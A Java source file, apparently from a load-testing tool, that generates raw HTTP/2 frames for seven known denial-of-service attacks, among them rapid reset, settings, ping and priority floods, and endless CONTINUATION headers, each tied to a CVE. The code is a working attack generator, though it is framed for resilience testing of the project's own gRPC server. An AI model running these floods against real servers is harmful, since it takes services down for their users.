package io.leasegate.loadtest.wire;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufUtil;
import io.netty.buffer.Unpooled;
import java.nio.charset.StandardCharsets;
import java.util.Locale;

/**
 * What a client sends that means harm: a connection's worth of bytes, beyond what any peer should put up with. Each is one of the known attacks on HTTP/2,
 * by small frames that cost the receiver more than the sender. Immutable, any thread.
 */
public enum Attack {
    /** Calls that are cancelled at once (CVE-2023-44487). */
    RAPID_RESET {
        @Override
        void frames(ByteBuf out) {
            for (int id = 1; id < 2 * FRAMES; id += 2) {
                request(out, id, FrameReader.END_HEADERS);
                frame(out, 4, FrameReader.RST_STREAM, 0, id).writeInt(CANCEL);
            }
        }
    },
    /** Settings, each of which has to be applied and acknowledged (CVE-2019-9515). */
    SETTINGS_FLOOD {
        @Override
        void frames(ByteBuf out) {
            for (int i = 0; i < FRAMES; i++) {
                frame(out, 6, FrameReader.SETTINGS, 0, 0)
                        .writeShort(INITIAL_WINDOW_SIZE)
                        .writeInt(65_535 + (i & 1));
            }
        }
    },
    /** Pings, each of which has to be answered (CVE-2019-9512). */
    PING_FLOOD {
        @Override
        void frames(ByteBuf out) {
            for (int i = 0; i < FRAMES; i++) {
                frame(out, 8, FrameReader.PING, 0, 0).writeLong(i);
            }
        }
    },
    /** Headers that never end (CVE-2024-27316 and its like). */
    ENDLESS_HEADERS {
        @Override
        void frames(ByteBuf out) {
            request(out, 1, 0);
            for (int i = 0; i < FRAMES / 16; i++) {
                frame(out, 16 * 18, FrameReader.CONTINUATION, 0, 1);
                for (int k = 0; k < 16; k++) {
                    literal(out, "x-filler", "12345678");
                }
            }
        }
    },
    /** Frames of a body that is not there (CVE-2019-9518). */
    EMPTY_DATA {
        @Override
        void frames(ByteBuf out) {
            request(out, 1, FrameReader.END_HEADERS);
            for (int i = 0; i < FRAMES; i++) {
                frame(out, 0, FrameReader.DATA, 0, 1);
            }
        }
    },
    /** Windows that open byte by byte. */
    WINDOW_UPDATE_FLOOD {
        @Override
        void frames(ByteBuf out) {
            for (int i = 0; i < FRAMES; i++) {
                frame(out, 4, FrameReader.WINDOW_UPDATE, 0, 0).writeInt(1);
            }
        }
    },
    /** Priorities that are shuffled (CVE-2019-9513). */
    PRIORITY_FLOOD {
        @Override
        void frames(ByteBuf out) {
            for (int i = 0; i < FRAMES; i++) {
                frame(out, 5, PRIORITY, 0, 3 + 2 * (i & 1023)).writeInt(1).writeByte(i);
            }
        }
    };

    /** Of the small ones, in one connection. */
    private static final int FRAMES = 25_000;

    private static final int CANCEL = 8;
    private static final int PRIORITY = 2;
    private static final int INITIAL_WINDOW_SIZE = 4;

    /** As a result's row has it. */
    public String label() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    /** All that one connection sends, its preface first. The caller's to release. */
    public final ByteBuf connection() {
        ByteBuf out = Unpooled.directBuffer(FRAMES * 32);
        out.writeCharSequence("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", StandardCharsets.US_ASCII);
        frame(out, 0, FrameReader.SETTINGS, 0, 0);
        frames(out);
        return out;
    }

    abstract void frames(ByteBuf out);

    private static ByteBuf frame(ByteBuf out, int length, int type, int flags, int streamId) {
        return out.writeMedium(length).writeByte(type).writeByte(flags).writeInt(streamId);
    }

    /** The head of a gRPC request: fields of the static table as far as there are any (RFC 7541 appendix A). */
    private static void request(ByteBuf out, int streamId, int flags) {
        int at = out.writerIndex();
        frame(out, 0, FrameReader.HEADERS, flags, streamId);
        out.writeByte(0x80 | 3).writeByte(0x80 | 6); // :method POST, :scheme http
        named(out, 4, "/leasegate.bench.Instance/UNARY");
        named(out, 1, "bench");
        literal(out, "content-type", "application/grpc");
        literal(out, "te", "trailers");
        out.setMedium(at, out.writerIndex() - at - FrameReader.HEADER_BYTES);
    }

    /** A literal without indexing whose name is in the static table. */
    private static void named(ByteBuf out, int index, String value) {
        out.writeByte(index).writeByte(value.length());
        ByteBufUtil.writeAscii(out, value);
    }

    /** A literal without indexing; both strings are shorter than 127 bytes. */
    private static void literal(ByteBuf out, String name, String value) {
        out.writeByte(0).writeByte(name.length());
        ByteBufUtil.writeAscii(out, name);
        out.writeByte(value.length());
        ByteBufUtil.writeAscii(out, value);
    }
}
